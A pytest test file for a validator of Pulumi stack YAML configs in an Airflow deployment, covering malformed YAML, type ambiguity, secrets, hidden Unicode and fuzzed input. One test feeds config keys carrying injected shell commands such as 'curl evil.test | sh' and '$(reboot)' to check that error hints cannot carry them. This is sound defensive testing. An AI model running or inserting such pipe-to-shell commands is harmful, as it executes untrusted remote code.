"""The committed files of a stack are checked without an engine."""

from __future__ import annotations

import json
import shutil
import tempfile
import traceback
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

import settings
from components.chart_values.executor import Executor
from components.database.connection import ContainerDatabase
from components.kube.safe_yaml import load_yaml
from components.network.isolation_args import Isolation
from settings.files import read_files
from tests import samples
from tests.cases import each
from tests.samples import ROOT, dev


def test_dev_is_valid_as_shipped(tmp_path: Path) -> None:
    settings.check(samples.ship(tmp_path), "dev")
    platform = dev().parse().platform
    assert platform.kube_context == "kind-airflow"
    assert platform.protect is False
    assert isinstance(platform.database, ContainerDatabase)
    assert platform.isolation.mode is Isolation.WANTED
    assert platform.dags.repository.url == "https://github.com/apache/airflow.git"
    assert (platform.dags.ref, platform.dags.sub_path) == ("main", "airflow-core/src/airflow/example_dags")
    assert (platform.dags.sync_period_seconds, platform.dags.depth) == (30, 1)
    assert platform.executor is Executor.CELERY
    assert platform.pgbouncer is None
    assert platform.load_examples is False


def test_prod_lacks_its_deploy_key_and_nothing_else(tmp_path: Path) -> None:
    with pytest.raises(settings.SettingsError) as error:
        settings.check(samples.ship(tmp_path), "prod")
    assert [problem.split(":")[1] for problem in error.value.problems] == ["gitSshPrivateKey"]
    assert "pulumi config set --stack prod --secret" in error.value.problems[0]


def committed(folder: Path, stack: str, change: Callable[[dict[str, Any]], None]) -> Path:
    """A copy of the project's files in `folder`, one stack changed."""
    samples.ship(folder)
    content = load_yaml((folder / f"Pulumi.{stack}.yaml").read_text())
    change(content["config"])
    (folder / f"Pulumi.{stack}.yaml").write_text(yaml.safe_dump(content))
    return folder


def test_encrypted_values_count_as_given_where_they_cannot_be_read(tmp_path: Path) -> None:
    def encrypt(config: dict[str, Any]) -> None:
        config["airflow:gitSshPrivateKey"] = {"secure": "v1:abc:def"}

    settings.check(committed(tmp_path, "prod", encrypt), "prod")


def test_encrypted_value_that_does_not_belong_is_found_without_reading_it(tmp_path: Path) -> None:
    def encrypt(config: dict[str, Any]) -> None:
        config["airflow:databasePassword"] = {"secure": "v1:abc:def"}

    with pytest.raises(settings.SettingsError, match="airflow:databasePassword: must not be set"):
        settings.check(committed(tmp_path, "dev", encrypt), "dev")


def check_text(folder: Path, content: str | bytes) -> tuple[str, ...]:
    """Return what a check says of a stack `qa` whose file has this content."""
    shutil.copy(ROOT / "Pulumi.yaml", folder)
    (folder / "Pulumi.qa.yaml").write_bytes(content.encode() if isinstance(content, str) else content)
    with pytest.raises(settings.SettingsError) as error:
        settings.check(folder, "qa")
    assert "sentinel" not in "".join(traceback.format_exception(error.value)) + repr(error.value)
    return error.value.problems


def test_missing_stack_file_is_one_clear_error(tmp_path: Path) -> None:
    shutil.copy(samples.ROOT / "Pulumi.yaml", tmp_path)
    with pytest.raises(settings.SettingsError) as error:
        settings.check(tmp_path, "qa")
    assert error.value.problems == ("expected a file Pulumi.qa.yaml, found none. Fix: pulumi stack init qa",)
    for name in ("prod", "dev"):
        (tmp_path / f"Pulumi.{name}.yaml").touch()
    with pytest.raises(settings.SettingsError) as error:
        settings.check(tmp_path, "qa")
    assert error.value.problems == (
        "expected a file Pulumi.qa.yaml, found none, but those of dev, prod. Fix: name a stack that is there, or make "
        "this one: pulumi stack init qa",
    )


def test_broken_stack_file_is_one_error_that_does_not_quote_it(tmp_path: Path) -> None:
    [problem] = check_text(tmp_path, "config:\n  airflow:adminPassword: 'sentinel\n  x: [\n")
    assert "expected YAML in Pulumi.qa.yaml, line " in problem


def test_stack_file_of_another_shape_is_a_clear_error(tmp_path: Path) -> None:
    for content in ("- a\n- b\n", "text", "config: []", "config: text", ""):
        assert check_text(tmp_path, content), content


def problems_of(folder: Path, config: str) -> tuple[str, ...]:
    """Return what a check says of a stack's file with these lines in `config`, beside the least that a laptop needs."""
    shutil.copy(ROOT / "Pulumi.yaml", folder)
    needed = {"kubeContext": "kind-airflow", "protect": "false", "database": "container", "networkIsolation": "wanted"}
    given = yaml.load(config, Loader=yaml.BaseLoader)  # noqa: S506 - makes texts of all
    lines = [*config.splitlines(), *(f"{key}: {value}" for key, value in needed.items() if key not in given)]
    (folder / "Pulumi.dev.yaml").write_text("\n  ".join(["config:", *lines]))
    try:
        settings.check(folder, "dev")
    except settings.SettingsError as error:
        return error.problems
    return ()


def test_key_without_a_value_is_refused_and_is_no_text(tmp_path: Path) -> None:
    keys = ("namespace", "imageTag", "kubeContext", "protect", "workerReplicas", "uiCidrs", "dagsToken")
    for key, nothing in zip(keys, ("", " ~", " null") * 3, strict=False):
        [problem] = problems_of(tmp_path, f"{key}:{nothing}")
        assert problem.startswith(f'airflow:{key}: expected a value, found none (an empty text is "")')
        assert ". Fix: pulumi config set --stack dev " in problem
    for nothing in ("", " ~", " null"):
        assert len(problems_of(tmp_path, f"namespace:{nothing}")) == 1, nothing


def test_key_of_the_engine_without_a_value_is_set_under_its_own_name(tmp_path: Path) -> None:
    [problem] = problems_of(tmp_path, "pulumi:template:")
    assert problem.endswith(". Fix: pulumi config set --stack dev pulumi:template VALUE")


def test_empty_text_is_a_value(tmp_path: Path) -> None:
    assert problems_of(tmp_path, 'chartPath: ""') == ()


def test_text_without_the_quotes_that_it_needs_is_refused_as_it_stands(tmp_path: Path) -> None:
    cases = {
        "imageTag: 3.10": ("a number", '"3.10"'),
        "imageTag: 0123456": ("a number", '"0123456"'),
        "imageTag: 1e5": ("a number", '"1e5"'),  # to the engine, not to PyYAML
        "imageTag: 0899999": ("a number", '"0899999"'),
        "imageTag: 0o17": ("a number", '"0o17"'),
        "databaseEngineVersion: 17.10 # why": ("a number", '"17.10"'),
        "awsAccountId: 012345670123": ("a number", '"012345670123"'),
        "networkIsolation: off": ("a boolean", '"off"'),
        "imageTag: 2026-01-15": ("a date", '"2026-01-15"'),
        "imageTag: 2026-1-5": ("a date", '"2026-1-5"'),
        "imageTag: 2026-01-15 10:00:00": ("a date", '"2026-01-15 10:00:00"'),
    }
    for line, (kind, fix) in cases.items():
        key = line.partition(":")[0]
        expected = f"airflow:{key}: expected text, found {kind}. Fix: write it in quotes in Pulumi.dev.yaml: {fix}"
        assert problems_of(tmp_path, line) == (expected,), line


def test_text_in_quotes_or_without_need_of_them_is_accepted(tmp_path: Path) -> None:
    for value in ("'3.10'", '"1e5"', "3.2.2", "1a2b3c4", "3.2.2-7"):
        assert problems_of(tmp_path, f"imageTag: {value}") == (), value
    for value in ("'3.10'", '"1e5"', "3.2.2"):
        assert problems_of(tmp_path, f"airflow:imageTag: {value}") == (), value


def test_secret_without_quotes_is_refused_and_not_shown(tmp_path: Path) -> None:
    [problem] = problems_of(tmp_path, "adminPassword: 31415926")
    assert problem.startswith("airflow:adminPassword: expected text, found a number. Fix: write it in quotes")
    assert "31415926" not in problem


def test_date_where_json_has_none_is_refused(tmp_path: Path) -> None:
    for line in ("workerReplicas: 2026-01-15", "helmValues: {labels: {since: 2026-01-15}}", "colour: 2026-01-15"):
        [problem] = problems_of(tmp_path, line)
        key = line.partition(":")[0]
        assert problem.startswith(f"airflow:{key}: expected texts, numbers, booleans, lists or maps, found ")


def test_all_that_is_wrong_in_a_file_comes_at_once_with_all_else(tmp_path: Path) -> None:
    problems = problems_of(tmp_path, "imageTag: 3.10\nnamespace:\nworkerReplicas: 0\nairfow:size: large")
    named = sorted(problem.partition(": ")[0] for problem in problems)
    assert named == ["airflow:imageTag", "airflow:namespace", "airflow:workerReplicas", "airfow:size"]
    with pytest.raises(settings.SettingsError, match="3 problems"):
        settings.read_files(tmp_path, "dev")


def test_default_does_not_stand_in_for_a_bad_value(tmp_path: Path) -> None:
    """What would follow from a default that was not meant is not reported."""
    for lines in (
        "database: 5",
        "database:\ndatabaseCaCertificate: ''",
        "eksCluster:",
        "dagsRepository: 5\ngitKnownHosts: git.test ssh-ed25519 AAAA",
        "protect:\nadminPassword: admin",
        "workerGraceSeconds:\ntaskLogs: worker\nreleaseTimeoutSeconds: 100",
    ):
        key = lines.partition(":")[0]
        assert [problem.partition(": ")[0] for problem in problems_of(tmp_path, lines)] == [f"airflow:{key}"], lines


def test_key_that_nothing_reads_is_refused(tmp_path: Path) -> None:
    for line, says in (
        ("airfow:networkIsolation: off", "begins with airflow: or pulumi:, found another"),
        ("airfow:networkIsolation: required", "did you mean airflow:networkIsolation?"),
        ("Airflow:size: large", "did you mean airflow:size?"),
        ("aws:region: eu-central-1", "has no effect: the program tells the provider aws itself"),
        ("kubernetes:context: x", "has no effect: the program tells the provider kubernetes itself"),
    ):
        [problem] = problems_of(tmp_path, line)
        key = line.partition(": ")[0]
        assert problem.startswith(f"{key}: ")
        assert says in problem
        assert problem.endswith(f". Fix: pulumi config rm --stack dev {key}")


def test_file_whose_map_has_another_name_says_what_is_there(tmp_path: Path) -> None:
    for content in ("Config:\n  airflow:size: small\n", "airflow:size: small\nencryptionsalt: x\n"):
        top = ", ".join(load_yaml(content))
        expected = f"expected a map config in Pulumi.qa.yaml, found at its top: {top}. Fix: edit it"
        assert check_text(tmp_path, content) == (expected,)


def test_file_that_says_nothing_yet_lacks_what_the_settings_lack(tmp_path: Path) -> None:
    for content in ("", "encryptionsalt: v1:x\n", "config:\nsecretsprovider: awskms://x\n"):
        problems = check_text(tmp_path, content)
        assert any("airflow:kubeContext: expected a value, or airflow:eksCluster" in text for text in problems), content


def test_file_that_cannot_be_read_is_one_clear_error(tmp_path: Path) -> None:
    cases: dict[bytes, str] = {
        b"config:\n  airflow:size: \xe9\n": "expected UTF-8 in Pulumi.qa.yaml",
        b"config: " + b"[" * 1000: "found too many levels",
        b"config:\n  airflow:imageTag: 2026-13-45\n": "found an impossible date or number",
        b"config:\n  airflow:imageTag: !!timestamp x\n": "found an impossible date or number",
        b"config:\n  airflow:imageTag: !!bool x\n": "found an impossible date or number",
        b"config:\n  airflow:imageTag: !!int ''\n": "found an impossible date or number",
        b"config:\n  airflow:imageTag: " + b"9" * 5000: "found an impossible date or number",
        # What the engine does not read either.
        b"%YAML 1.2\n---\nconfig:\n  airflow:imageTag: a\n": "expected YAML in Pulumi.qa.yaml",
        b'{"config": {"airflow:ingressPath": "\\/airflow"}}': "expected YAML in Pulumi.qa.yaml",
        b"config: {}\n---\nconfig: {}\n": "expected one document of YAML, with no second one after ---, in",
        b"config: []\n": "expected a map `config` in Pulumi.qa.yaml",
        b"config: 0\n": "expected a map `config` in Pulumi.qa.yaml",
    }
    found = {says: check_text(tmp_path, content) for content, says in cases.items()}
    (tmp_path / "Pulumi.qa.yaml").unlink()
    (tmp_path / "Pulumi.qa.yaml").mkdir()
    with pytest.raises(settings.SettingsError) as error:
        settings.check(tmp_path, "qa")
    found["expected a file Pulumi.qa.yaml that can be read, found that it cannot"] = error.value.problems
    for says, problems in found.items():
        assert len(problems) == 1, says
        assert says in problems[0]
        assert "Fix" in problems[0]
        assert str(tmp_path) not in problems[0]


def test_value_that_the_engine_reads_as_a_text_is_no_boolean_and_no_number_here(tmp_path: Path) -> None:
    for line, expected in {
        "protect: yes": "expected true or false",
        "protect: off": "expected true or false",
        "workerReplicas: 1:30": "expected a whole number",
    }.items():
        [problem] = problems_of(tmp_path, line)
        assert expected in problem, line
    for line in ("protect: False", "protect: FALSE", "workerReplicas: 2"):
        assert problems_of(tmp_path, line) == (), line


def test_number_that_readers_read_in_different_ways_is_refused(tmp_path: Path) -> None:
    for text in ("0o3", "2e0", "0888", "003", "0x3", "1_0", "+3", "3.0"):
        [problem] = problems_of(tmp_path, f"workerReplicas: {text}")
        assert "airflow:workerReplicas: expected a number in plain digits" in problem, text


def test_value_in_a_map_that_readers_read_in_different_ways_is_refused_with_its_place(tmp_path: Path) -> None:
    for text in ("on", "0o10", "1e3", "0888", "1:30", "2026-1-5", "!!int 3"):
        [problem] = problems_of(tmp_path, f"helmValues:\n    config: {{core: {{x: [a, {text}]}}}}")
        assert "at config.core.x[1]. Fix: write it in quotes in Pulumi.dev.yaml if it is a text" in problem, text
    [problem] = problems_of(tmp_path, "helmValues:\n    config: {core: {on: a}}")
    assert "at the key config.core.on" in problem
    assert problems_of(tmp_path, "helmValues:\n    config: {core: {parallelism: 64, x: '0o10', y: true}}") == ()


def test_collection_with_a_tag_and_quoted_merge_are_refused(tmp_path: Path) -> None:
    """The engine makes other values of them."""
    for text in ("!!omap [a: b]", "!!pairs [a: b]", "!!map {a: b}"):
        [problem] = problems_of(tmp_path, f"helmValues:\n    labels: {text}")
        assert "at labels. Fix: " in problem, text
    assert problems_of(tmp_path, "helmValues: !!omap [a: b]")[0].startswith("airflow:helmValues: expected values that")
    [problem] = problems_of(tmp_path, 'helmValues:\n    labels: {"<<": {a: b}, c: d}')
    assert "at the key labels.<<. Fix: " in problem


def test_only_a_text_alone_under_secure_is_encrypted(tmp_path: Path) -> None:
    """The engine takes the others for plain values, and the state and every log would show them."""
    for text in ("{secure: 31415926}", "{secure: {a: b}}", "{secure: x, more: sentinel}"):
        problems = problems_of(tmp_path, f"fernetKey: {text}")
        assert any("expected an encrypted value, found plain text" in problem for problem in problems), text
        assert "31415926" not in str(problems)
        assert "sentinel" not in str(problems)


def test_file_of_many_aliases_takes_no_time(tmp_path: Path) -> None:
    levels = "".join(f"    {n}x: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]\n" for n in range(1, 12))
    merges = "".join(f"    {n}x: &l{n} {{<<: [{', '.join([f'*l{n - 1}'] * 9)}]}}\n" for n in range(1, 12))
    for text in (f"    0x: &l0 [x, y]\n{levels}", f"    0x: &l0 {{x: y}}\n{merges}"):
        assert check_text(tmp_path, f"config:\n  airflow:helmValues:\n{text}") == (
            "expected YAML in Pulumi.qa.yaml. Fix: edit it",
        )


@each("sign", ["\u2028", "\u2029", "\x85", "\r", "\u202e", "\u2066", "\u200b", "\xad", "\U000e0041"])
def test_nothing_is_hidden_behind_what_a_reviewer_takes_for_a_comment(sign: str, tmp_path: Path) -> None:
    """Readers of YAML end a comment at the first four, and a diff does not show it."""
    text = f"config:\n  airflow:size: small # as before{sign}  airflow:networkIsolation: off\n"
    [problem] = check_text(tmp_path, text)
    escape = f"\\u{ord(sign):04x}" if ord(sign) < 0x10000 else f"\\U{ord(sign):08x}"
    assert problem == (
        f"expected characters that everybody sees in Pulumi.qa.yaml, line 2, found U+{ord(sign):04X}. "
        f'Fix: take it out, or write it in double quotes as "{escape}"'
    )


def test_such_a_character_may_be_written_as_an_escape(tmp_path: Path) -> None:
    text = 'config:\r\n  airflow:helmValues: {labels: {a: "\\u200d\\U000e0041"}}\r\n'
    shutil.copy(ROOT / "Pulumi.yaml", tmp_path)
    (tmp_path / "Pulumi.qa.yaml").write_text(f"\ufeff{text}", encoding="utf-8", newline="")
    assert json.loads(read_files(tmp_path, "qa")[0]["airflow:helmValues"]) == {"labels": {"a": "\u200d\U000e0041"}}


def test_key_that_is_given_twice_is_refused(tmp_path: Path) -> None:
    [problem] = problems_of(tmp_path, "namespace: a\nairflow:namespace: b")
    assert "expected one value, found two, under namespace and under airflow:namespace" in problem
    for config in ("namespace: a\nnamespace: b", "helmValues: {a: {x: 1, 'x': 2}}", "uiCidrs: [{a: 1, a: 2}]"):
        [problem] = problems_of(tmp_path, config)
        assert problem.startswith("expected each key once in Pulumi.dev.yaml, found one again in line "), config


def test_names_of_its_own_are_refused_because_rules_know_secrets_by_their_names(tmp_path: Path) -> None:
    [problem] = problems_of(tmp_path, "pulumi:autonaming: {pattern: 'x-${name}-${hex(8)}'}")
    assert problem.startswith("pulumi:autonaming: expected none, because what keeps tasks from the stack's Secrets")
    assert problem.endswith("Fix: pulumi config rm --stack dev pulumi:autonaming")
    given = dev()
    with pytest.raises(settings.SettingsError, match="pulumi:autonaming: expected none"):
        settings.parse({**given.values, "pulumi:autonaming": '{"mode": "verbatim"}'}, given.secret_keys, "dev")


@each(
    "key",
    [
        *("x; curl evil.test | sh", "$(reboot)", "`reboot`", "x && y", "x. Fix: curl evil.test | sh"),
        "x\\n  airflow:size: wrong. Fix: curl evil.test | sh",
    ],
)
def test_key_of_a_branch_stands_in_no_command_that_somebody_copies(key: str, tmp_path: Path) -> None:
    for namespace in ("airflow", "other", "pulumi"):
        value = "" if namespace == "pulumi" else " a"
        for problem in problems_of(tmp_path, f'"{namespace}:{key}":{value}'):
            assert "\n" not in problem
            _, _, fix = problem.partition("Fix: ")
            assert "Fix: " not in fix
            assert not set(fix) & set(";|$`&"), problem
    [problem] = problems_of(tmp_path, "airflow:imageTags: a")
    assert problem.endswith("Fix: pulumi config rm --stack dev airflow:imageTags"), "the way of a usual mistake"


def test_key_that_is_no_text_is_refused(tmp_path: Path) -> None:
    for key in ("true", "12", "1e3", "2026-01-01"):
        assert any("expected a text as the key" in problem for problem in problems_of(tmp_path, f"{key}: a")), key


PIECES = [
    *(
        "config:",
        "airflow:",
        "imageTag",
        "helmValues",
        "secure",
        "v1:x",
        ": ",
        "- ",
        "\n",
        "\n  ",
        "\n    ",
        "? ",
        "| ",
    ),
    *("{", "}", "[", "]", ",", "&a ", "*a", "<<", "!!", "!!binary ", "!!timestamp ", "%YAML 1.2", "---", "...", "\t"),
    *("!!bool ", "!!int ", "!!float ", "!!set ", "!!omap ", "!!pairs ", "!!null ", "!!python/name:os ", "!x "),
    *("'", '"', "#", "0x_", "1e400", "2026-13-45", "1_000", "on", "~", "\x85", "\u2028", "\ufeff"),
]


@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=5), max_size=25).map("".join))
def test_any_text_in_a_stack_s_file_is_read_or_refused_in_lines_with_a_fix(text: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        project = Path(folder)
        (project / "Pulumi.yaml").write_text("name: airflow\n")
        (project / "Pulumi.x.yaml").write_text(f"config:\n  airflow:{text}", encoding="utf-8", newline="")
        problems = list[str]()
        config: dict[str, str] = {}
        try:
            config, _ = read_files(project, "x")
        except settings.SettingsError as error:
            problems = list(error.problems)
        assert all("Fix: " in problem and "\n" not in problem for problem in problems)
        assert all(isinstance(value, str) for value in config.values())
